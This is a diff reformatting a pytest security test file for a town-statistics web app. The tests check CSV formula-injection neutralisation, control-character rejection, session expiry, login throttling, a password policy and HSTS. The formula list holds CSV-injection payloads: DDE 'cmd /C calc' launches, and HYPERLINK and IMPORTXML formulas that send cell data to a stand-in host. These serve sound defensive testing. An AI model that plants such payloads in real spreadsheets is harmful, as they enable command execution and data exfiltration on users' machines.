@@ -2,6 +2,7 @@
 throttled sign-in at one cost for known and unknown names and a password policy (M4), cookie flags
 and HSTS by configuration (M6), and the small ones: the database file 0600, NUL and bidirectional
 controls refused in imported texts."""
+
 from __future__ import annotations
 
 import csv
@@ -18,10 +19,25 @@ from webapp.store.db import MIN_PASSWORD, SIGNIN_MAX_PER_CLIENT, SIGNIN_MAX_PER_
 
 # 20 texts a spreadsheet takes for a formula (OWASP "CSV Injection" and the audit's payloads)
 FORMULAS = [
-    "=1+1", '=HYPERLINK("http://x.example/?"&A1,"x")', "=cmd|' /C calc'!A0",
-    '=DDE("cmd";"/C calc";"!A0")', '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")', "+1+1",
-    "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@cmd|' /C calc'!A0",
-    "-@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
+    "=1+1",
+    '=HYPERLINK("http://x.example/?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")',
+    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "@cmd|' /C calc'!A0",
+    "-@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
     '=IMAGE("http://x.example")',
 ]
 
@@ -42,10 +58,20 @@ def _rows(text: str) -> list[list[str]]:
 
 # ---- M3: CSV formula injection ------------------------------------------------------------------
 
+
 def test_twenty_formula_texts_are_neutralised_on_export(app):
     method = app.extensions["atlas"].method
-    stored = [{"town_id": "rudny", "input": "mono_output_share", "value": 10.0 + i, "period": f,
-               "source": f, "note": f} for i, f in enumerate(FORMULAS)]
+    stored = [
+        {
+            "town_id": "rudny",
+            "input": "mono_output_share",
+            "value": 10.0 + i,
+            "period": f,
+            "source": f,
+            "note": f,
+        }
+        for i, f in enumerate(FORMULAS)
+    ]
     rows = _rows(export_csv(stored, method))
     assert len(rows) == 21
     for row in rows[1:]:
@@ -54,22 +80,35 @@ def test_twenty_formula_texts_are_neutralised_on_export(app):
             assert cell[0] == "'" and cell[1:] in FORMULAS, row
     assert sorted(r[2][1:] for r in rows[1:]) == sorted(FORMULAS)
     # numbers stay numbers (a negative value is a value, not a formula)
-    negative = [{"town_id": "kentau", "input": "demo_natural_growth", "value": -3.5,
-                 "period": "2024", "source": "stat.gov.kz", "note": ""}]
+    negative = [
+        {
+            "town_id": "kentau",
+            "input": "demo_natural_growth",
+            "value": -3.5,
+            "period": "2024",
+            "source": "stat.gov.kz",
+            "note": "",
+        }
+    ]
     header, row = _rows(export_csv(negative, method))
     assert row[header.index("demo_natural_growth")] == "-3.5"
 
 
-def test_formula_texts_imported_are_exported_neutralised_and_read_back_as_they_were(app, store,
-                                                                                   tmp_path):
+def test_formula_texts_imported_are_exported_neutralised_and_read_back_as_they_were(
+    app, store, tmp_path
+):
     client = app.test_client()
     token = sign_in(client)
     sent = FORMULAS[:12] + FORMULAS[15:]  # leading tab, CR and LF are trimmed by the import
-    towns = sorted(app.extensions["atlas"].metas)[:len(sent)]  # exported: a town's current values
+    towns = sorted(app.extensions["atlas"].metas)[: len(sent)]  # exported: a town's current values
     quoted = [f.replace('"', '""') for f in sent]
     lines = [f'{t},2029,"{f}",{i},1' for i, (t, f) in enumerate(zip(towns, quoted))]
-    r = client.post("/api/statistics", data=csv_bytes(*lines), headers={"X-CSRF-Token": token},
-                    content_type="text/csv")
+    r = client.post(
+        "/api/statistics",
+        data=csv_bytes(*lines),
+        headers={"X-CSRF-Token": token},
+        content_type="text/csv",
+    )
     assert r.status_code == 200, r.get_json()
     exported = client.get("/api/statistics/export.csv").get_data(as_text=True)
     sources = [row[2] for row in _rows(exported)[1:] if row[0] in towns and row[1] == "2029"]
@@ -79,8 +118,14 @@ def test_formula_texts_imported_are_exported_neutralised_and_read_back_as_they_w
     out = tmp_path / "export.csv"
     assert runner.invoke(args=["export-stats", str(out)]).exit_code == 0
     assert out.read_text(encoding="utf-8") == exported  # the command writes the same safe file
-    mine = lambda: {(v["town_id"], v["input"], v["source"]) for v in store.current()  # noqa: E731
-                    if v["period"] == "2029"}
+
+    def mine():
+        return {
+            (v["town_id"], v["input"], v["source"])
+            for v in store.current()
+            if v["period"] == "2029"
+        }
+
     before = mine()
     assert len(before) == 2 * len(sent)
     assert runner.invoke(args=["import-stats", str(out)]).exit_code == 0  # the export read back ...
@@ -90,8 +135,22 @@ def test_formula_texts_imported_are_exported_neutralised_and_read_back_as_they_w
 
 # ---- item 7: NUL and bidirectional controls ------------------------------------------------------
 
-@pytest.mark.parametrize("char", ["\x00", "\u202e", "\u202d", "\u2066", "\u2067", "\u2068",
-                                  "\u2069", "\u200f", "\u061c", "\x1b"])
+
+@pytest.mark.parametrize(
+    "char",
+    [
+        "\x00",
+        "\u202e",
+        "\u202d",
+        "\u2066",
+        "\u2067",
+        "\u2068",
+        "\u2069",
+        "\u200f",
+        "\u061c",
+        "\x1b",
+    ],
+)
 @pytest.mark.parametrize("column", ["source", "year"])
 def test_control_characters_in_imported_texts_are_refused(app, store, char, column):
     client = app.test_client()
@@ -99,8 +158,12 @@ def test_control_characters_in_imported_texts_are_refused(app, store, char, colu
     head = store.head()
     text = f"Akimat{char}report"
     row = f"rudny,2023,{text},70,30" if column == "source" else f"rudny,20{char}23,doc,70,30"
-    r = client.post("/api/statistics", data=csv_bytes(row), headers={"X-CSRF-Token": token},
-                    content_type="text/csv")
+    r = client.post(
+        "/api/statistics",
+        data=csv_bytes(row),
+        headers={"X-CSRF-Token": token},
+        content_type="text/csv",
+    )
     assert r.status_code == 400
     problem = " ".join(r.get_json()["problems"])
     assert f"column '{column}'" in problem and f"control character U+{ord(char):04X}" in problem
@@ -112,13 +175,18 @@ def test_plain_texts_in_any_script_are_accepted(app, store):
     client = app.test_client()
     token = sign_in(client)
     row = "rudny,2023,Әкімдік есебі — отчёт «Рудный»,70,30"
-    r = client.post("/api/statistics", data=csv_bytes(row), headers={"X-CSRF-Token": token},
-                    content_type="text/csv")
+    r = client.post(
+        "/api/statistics",
+        data=csv_bytes(row),
+        headers={"X-CSRF-Token": token},
+        content_type="text/csv",
+    )
     assert r.status_code == 200, r.get_json()
     app.extensions["atlas"].rollback(1, editor="test cleanup")
 
 
 # ---- item 7: the database file ------------------------------------------------------------------
+
 
 def test_the_database_file_is_readable_by_its_owner_only(tmp_path):
     db = tmp_path / "inst" / "atlas.sqlite3"
@@ -132,14 +200,17 @@ def test_the_database_file_is_readable_by_its_owner_only(tmp_path):
 
 # ---- M5: sessions end --------------------------------------------------------------------------
 
+
 def _copy_session(source, target) -> None:
     cookie = source.get_cookie("session")
     target.set_cookie("session", cookie.value)
 
 
 def _signed_in(client) -> bool:
-    return client.get("/api/statistics/revisions").status_code == 200 and \
-        b"signed-in" in client.get("/data").data
+    return (
+        client.get("/api/statistics/revisions").status_code == 200
+        and b"signed-in" in client.get("/data").data
+    )
 
 
 def _editor(store, name: str, password: str = PASSWORD) -> None:
@@ -156,13 +227,23 @@ def test_a_saved_cookie_no_longer_works_after_logout(app, store):
     assert client.post("/logout", headers={"X-CSRF-Token": token}).status_code == 302
     assert not _signed_in(client)
     assert not _signed_in(saved)  # the copy made before the sign-out: ended too
-    r = saved.post("/api/statistics", data=csv_bytes("rudny,2023,doc,70,30"),
-                   content_type="text/csv", headers={"X-CSRF-Token": token})
+    r = saved.post(
+        "/api/statistics",
+        data=csv_bytes("rudny,2023,doc,70,30"),
+        content_type="text/csv",
+        headers={"X-CSRF-Token": token},
+    )
     assert r.status_code == 401
 
 
-@pytest.mark.parametrize("change", [["remove-editor", "{n}"], ["disable-editor", "{n}"],
-                                    ["set-password", "{n}", "--password", "a-brand-new-secret"]])
+@pytest.mark.parametrize(
+    "change",
+    [
+        ["remove-editor", "{n}"],
+        ["disable-editor", "{n}"],
+        ["set-password", "{n}", "--password", "a-brand-new-secret"],
+    ],
+)
 def test_removing_disabling_or_repasswording_an_editor_ends_their_sessions(app, store, change):
     name = f"ed-{change[0]}"
     _editor(store, name)
@@ -198,11 +279,13 @@ def test_editor_commands(app, store):
 
 # ---- M4: sign-in --------------------------------------------------------------------------------
 
+
 def _login(app, name, password, client_ip):
     client = app.test_client()
     client.environ_base["REMOTE_ADDR"] = client_ip
-    return client.post("/login", data={"name": name, "password": password,
-                                       "csrf_token": csrf(client, "/login")})
+    return client.post(
+        "/login", data={"name": name, "password": password, "csrf_token": csrf(client, "/login")}
+    )
 
 
 def test_sign_in_is_throttled_per_name(app, store):
@@ -232,8 +315,12 @@ def test_throttled_messages_in_every_language(app):
     for lang, words in (("ru", "Слишком много"), ("kk", "тым көп"), ("en", "Too many")):
         client = app.test_client()
         client.environ_base["REMOTE_ADDR"] = "10.3.0.2"
-        form = {"name": "lang-test", "password": "x", "lang": lang,
-                "csrf_token": csrf(client, "/login")}
+        form = {
+            "name": "lang-test",
+            "password": "x",
+            "lang": lang,
+            "csrf_token": csrf(client, "/login"),
+        }
         r = client.post(f"/login?lang={lang}", data=form)
         assert r.status_code == 429 and words in r.get_data(as_text=True), lang
 
@@ -260,10 +347,18 @@ def test_known_and_unknown_names_cost_one_password_hash_each(store, monkeypatch)
         assert calls == {"check": 1, "make": 0}, name
 
 
-@pytest.mark.parametrize("password, rule", [
-    ("12345678", "at least 12"), ("short-pass1", "at least 12"), ("qwerty123456", "most common"),
-    ("QWERTY123456", "most common"), ("1qaz2wsx3edc", "most common"), ("aaaaaaaaaaaaaa", "repeat"),
-    ("Timur-Almaty-1", "name")])
+@pytest.mark.parametrize(
+    "password, rule",
+    [
+        ("12345678", "at least 12"),
+        ("short-pass1", "at least 12"),
+        ("qwerty123456", "most common"),
+        ("QWERTY123456", "most common"),
+        ("1qaz2wsx3edc", "most common"),
+        ("aaaaaaaaaaaaaa", "repeat"),
+        ("Timur-Almaty-1", "name"),
+    ],
+)
 def test_password_policy(store, password, rule):
     with pytest.raises(StoreError, match=rule):
         store.add_editor("timur-almaty-1", password)
@@ -277,6 +372,7 @@ def test_the_common_password_list_is_read(store):
 
 
 # ---- M6: cookie flags and HSTS -------------------------------------------------------------------
+
 
 def _session_cookie_header(app) -> str:
     client = app.test_client()
@@ -294,8 +390,10 @@ def test_secure_cookie_and_hsts_by_configuration(tmp_path):
     app = make_app(tmp_path / "tls.sqlite3", SESSION_COOKIE_SECURE=True, HSTS_SECONDS=31536000)
     header = _session_cookie_header(app)
     assert "Secure" in header and "SameSite=Lax" in header
-    assert app.test_client().get("/").headers["Strict-Transport-Security"] == \
-        "max-age=31536000; includeSubDomains"
+    assert (
+        app.test_client().get("/").headers["Strict-Transport-Security"]
+        == "max-age=31536000; includeSubDomains"
+    )
     app.extensions["store"].dispose()
 
 
@@ -310,6 +408,7 @@ def test_secure_cookie_and_hsts_from_the_environment(tmp_path, monkeypatch):
 
 
 # ---- item 7: staging folders left by a crash ---------------------------------------------------
+
 
 def _aged(folder, seconds: float):
     folder.mkdir(parents=True)
